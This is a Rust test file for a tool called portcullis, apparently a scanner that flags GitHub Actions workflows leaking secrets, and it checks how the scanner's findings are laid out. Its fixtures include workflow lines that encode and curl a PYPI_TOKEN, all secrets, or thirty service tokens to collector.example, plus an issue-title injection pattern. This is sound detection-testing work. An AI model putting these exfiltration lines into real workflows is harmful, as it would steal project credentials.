//! What people read: everything is there, in 80 columns, and nothing twice.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, reason = "a test fails by panicking")]

mod victim;

use std::path::Path;
use std::process::Command;

use victim::{PUBLISH, STEAL, commit, git, portcullis, repository, victim};

fn human(folder: &Path, arguments: &[&str]) -> String {
    String::from_utf8(portcullis(&[&["scan"], arguments].concat(), folder).stdout).unwrap()
}

/// The parts of a text that begin in the first column.
fn diagnostics(text: &str) -> Vec<&str> {
    text.split("\n\n").filter(|part| part.contains("]: ") && part.contains("-->")).collect()
}

/// What is longer than a line is one word that cannot be broken: an address, a path.
fn assert_fits(text: &str, what: &str) {
    let table = text.find("malicious  suspicious").unwrap_or(text.len());
    for line in text.get(..table).unwrap().lines() {
        let width = line.chars().count();
        let is_one_word =
            !line.contains('|') && line.split_whitespace().filter(|word| word.len() > 3).count() <= 2;
        assert!(width <= 80 || is_one_word, "{what}: {width} columns: {line}");
    }
}

#[test]
fn every_finding_of_the_corpus_fits_into_80_columns() {
    let corpus = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/corpus");
    let mut files = 0;
    for folder in ["malicious", "benign"] {
        for entry in std::fs::read_dir(corpus.join(folder)).unwrap() {
            let path = entry.unwrap().path();
            let name = path.file_name().unwrap().to_str().unwrap().to_owned();
            let text = human(&corpus.join(folder), &["--min-verdict", "advice", &name]);
            assert_fits(&text, &name);
            files += 1;
            if folder == "malicious" {
                let found = diagnostics(&text);
                assert!(!found.is_empty(), "{name}: {text}");
                for part in found {
                    for label in ["  exposed:", "  do:", "  why:", "  finding:"] {
                        assert_eq!(part.matches(label).count(), 1, "{name}: {label} in\n{part}");
                    }
                    assert!(part.contains("^"), "{name}: nothing is underlined in\n{part}");
                }
            }
        }
    }
    assert!(files > 50);
}

/// The way of a secret: each hop is underlined where it stands and says what happens.
#[test]
fn hops_are_underlined_and_labelled() {
    let text = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      KEY: ${{ secrets.PYPI_TOKEN }}\n    steps:\n      - run: |\n          body=$(echo \"$KEY\" | base64 | rev)\n          curl -s https://collector.example/in -d \"$body\"\n";
    let tree = repository(&[(".github/workflows/a.yml", text)]);
    let out = human(tree.path(), &[]);
    let lines: Vec<&str> = out.lines().map(str::trim_end).collect();
    let below = |source: &str| {
        let at = lines
            .iter()
            .position(|line| line.contains(source))
            .unwrap_or_else(|| panic!("{source} in {out}"));
        lines[at + 1..]
            .iter()
            .take_while(|line| line.starts_with("   |"))
            .copied()
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert!(
        lines[1].contains("--> .github/workflows/a.yml (version ") && lines[1].ends_with(":10:11"),
        "{}",
        lines[1]
    );
    assert!(
        below(" 6 | KEY: ${{ secrets.PYPI_TOKEN }}").contains("--- secret PYPI_TOKEN as env `KEY`"),
        "{out}"
    );
    let encoded = below(" 9 | ");
    assert!(encoded.contains("base64") && encoded.contains("variable `body`"), "{out}");
    let sink = below("10 | ");
    assert!(sink.starts_with("   |     ^^^^") && sink.contains("^ to collector.example"), "{out}");
}

/// A command of several thousand characters: what matters of it stays.
#[test]
fn a_long_line_is_cut_around_what_matters() {
    let noise = "echo building; ".repeat(300);
    let text = format!(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          {noise} curl -s -d '${{{{ toJSON(secrets) }}}}' https://collector.example/in; {noise}\n"
    );
    let tree = repository(&[(".github/workflows/a.yml", &text)]);
    let out = human(tree.path(), &[]);
    assert_fits(&out, "a long line");
    let line = out.lines().find(|line| line.starts_with("7 | ")).unwrap();
    assert!(line.contains("curl") && line.contains("collector.example/in") && line.contains('…'), "{out}");
    assert!(out.contains("to collector.example"), "{out}");
}

#[test]
fn line_ends_of_windows_are_no_news() {
    let tree = repository(&[
        (".gitattributes", "* -text\n"),
        (".github/workflows/a.yml", &STEAL.replace('\n', "\r\n")),
    ]);
    let out = human(tree.path(), &[]);
    assert!(out.contains("malicious[") && out.contains("curl -s") && !out.contains(r"\u{d}"), "{out}");
}

#[test]
fn many_secrets_are_summed_up() {
    let names: Vec<String> = (0..30).map(|at| format!("SERVICE_{at}_TOKEN")).collect();
    let pairs: Vec<String> = names.iter().map(|name| format!("{name}=${{{{ secrets.{name} }}}}")).collect();
    let text = format!(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -d '{}&PYPI_TOKEN=${{{{ secrets.PYPI_TOKEN }}}}' https://collector.example/in\n",
        pairs.join("&")
    );
    let tree = repository(&[(".github/workflows/a.yml", &text)]);
    let out = human(tree.path(), &[]);
    assert_fits(&out, "many secrets");
    assert!(out.lines().count() < 45, "{out}");
    let words = out.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(words.contains("and 28 more secrets") && words.contains("and 24 more: nothing here"), "{out}");
    assert!(words.contains(" | secrets SERVICE_0_TOKEN, SERVICE_1_TOKEN and "), "{out}");
    let at = |what: &str| out.find(what).unwrap_or_else(|| panic!("{what} in {out}"));
    assert!(
        at("`PYPI_TOKEN`: PyPI") < at("nothing here says what that opens"),
        "what publishes comes first:\n{out}"
    );
}

/// The same door in twelve files is one diagnostic with twelve places; two thefts are two.
#[test]
fn findings_alike_are_folded_and_thefts_are_not() {
    let door = "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n";
    let paths: Vec<String> = (0..12).map(|at| format!(".github/workflows/{at:02}.yml")).collect();
    let files: Vec<(&str, &str)> = paths.iter().map(|path| (path.as_str(), door)).collect();
    let tree = repository(&files);
    let out = human(tree.path(), &[]);
    assert_eq!(diagnostics(&out).len(), 1, "{out}");
    assert!(
        out.contains("  also in:  .github/workflows/01.yml:6 (finding ") && out.contains("and 5 more files"),
        "{out}"
    );
    assert!(out.contains("12 findings;"), "{out}");
    commit(tree.path(), &[(".github/workflows/x.yml", STEAL), (".github/workflows/y.yml", STEAL)], "Two");
    let out = human(tree.path(), &["--min-verdict", "malicious"]);
    assert_eq!(diagnostics(&out).len(), 2, "{out}");
    assert!(out.contains("2 findings, 12 milder not shown"), "{out}");
}

#[test]
fn the_time_of_an_exposure_is_said_in_words() {
    let victim = victim();
    let path = victim.path();
    let still = human(path, &[]);
    assert!(still.contains(" until now (as the commits claim)"), "{still}");
    git(path, &["branch", "-q", "-D", "dev"]);
    let over = human(path, &[]);
    assert!(!over.contains("until now") && !over.contains("still on"), "{over}");
    assert!(over.contains("to see it: git show ") && !over.contains("--remove-malicious"), "{over}");
    let tree = repository(&[("README.md", "x")]);
    commit(tree.path(), &[(".github/workflows/x.yml", STEAL)], "In");
    git(tree.path(), &["reset", "-q", "--hard", "HEAD~1"]);
    let lost = human(tree.path(), &[]);
    assert!(
        lost.replace("\n            ", " ").contains("a force-push or a deleted branch left it"),
        "{lost}"
    );
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(folder.path().join(".github/workflows")).unwrap();
    std::fs::write(folder.path().join(".github/workflows/a.yml"), STEAL).unwrap();
    assert!(human(folder.path(), &[]).contains("now; no commit has this version of the file"));
}

/// Nobody is told to throw a secret away for a login at a server of his own.
#[test]
fn what_to_do_depends_on_how_sure_it_is() {
    let login = |scheme: &str| {
        format!(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          curl -H 'Authorization: Bearer ${{{{ secrets.ARGO_TOKEN }}}}' {scheme}://argo-dev.widgets.test/x\n"
        )
    };
    let said = |text: &str| {
        let tree = repository(&[(".github/workflows/a.yml", text)]);
        let out = human(tree.path(), &[]);
        out.split_whitespace().collect::<Vec<_>>().join(" ")
    };
    let exposed = said(&login("https"));
    assert!(exposed.contains("exposed[secret-to-host]"), "{exposed}");
    assert!(exposed.contains("do: nothing, if the place is yours: say so beside it, `# portcullis: accept secret-to-host REASON`"), "{exposed}");
    let suspicious = said(&login("http"));
    assert!(suspicious.contains("suspicious[secret-to-host]"), "{suspicious}");
    assert!(
        suspicious.contains(
            "do: ask whoever wrote it why the secret goes there. If it should: scan with --accept "
        ),
        "{suspicious}"
    );
    assert!(said(STEAL).contains("do: invalidate every secret listed"));
}

#[test]
fn the_weighing_is_shown_to_who_asks() {
    let victim = victim();
    let short = human(victim.path(), &[]);
    let long = human(victim.path(), &["--explain"]);
    let words = long.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(!short.contains("weighed:") && short.len() < long.len());
    assert!(words.contains("weighed: where it goes (foreign-destination) + weak ("), "{long}");
    assert!(words.contains("+ greed (") && words.contains(": together malicious"), "{long}");
    assert!(words.contains("single-purpose (weak): The job does nothing else"), "{long}");
    assert_fits(&long, "--explain");
}

#[test]
fn a_table_sums_up_each_repository() {
    let folder = tempfile::tempdir().unwrap();
    for (name, files) in
        [("one", vec![("x.yml", STEAL), ("publish.yml", PUBLISH)]), ("two", vec![("y.yml", STEAL)])]
    {
        let workflows = folder.path().join(name).join(".github/workflows");
        std::fs::create_dir_all(&workflows).unwrap();
        git(&folder.path().join(name), &["init", "-q"]);
        for (file, text) in files {
            std::fs::write(workflows.join(file), text).unwrap();
        }
    }
    let out = human(folder.path(), &["--min-verdict", "advice"]);
    let table: Vec<&str> =
        out.lines().skip_while(|line| !line.starts_with("malicious  suspicious")).collect();
    let row = |line: &str| line.split_whitespace().map(str::to_owned).collect::<Vec<_>>();
    assert_eq!(row(table[0]), ["malicious", "suspicious", "exposed", "advice", "where"]);
    assert_eq!(row(table[1])[..2], ["1", "-"]);
    assert!(table[1].ends_with("one") && table[2].ends_with("two"), "{out}");
    assert_eq!(row(table[1])[3], "1", "{out}");
    let clean = repository(&[("README.md", "x")]);
    let out = human(clean.path(), &[]);
    assert!(out.starts_with("nothing found; looked at 1 repository, 1 commit"), "{out}");
}

/// Colours are for terminals; whoever asks for none gets none.
#[test]
fn colours_come_only_where_they_are_wanted() {
    let victim = victim();
    let run = |variables: &[(&str, &str)]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_portcullis"));
        for name in ["NO_COLOR", "CLICOLOR", "CLICOLOR_FORCE", "GITHUB_ACTIONS"] {
            command.env_remove(name);
        }
        command.arg("scan").current_dir(victim.path()).envs(variables.iter().copied());
        String::from_utf8(command.output().unwrap().stdout).unwrap()
    };
    assert!(run(&[("CLICOLOR_FORCE", "1")]).contains("\u{1b}["));
    for variables in [&[][..], &[("NO_COLOR", "1")], &[("TERM", "dumb")]] {
        assert!(!run(variables).contains('\u{1b}'), "{variables:?}");
    }
}
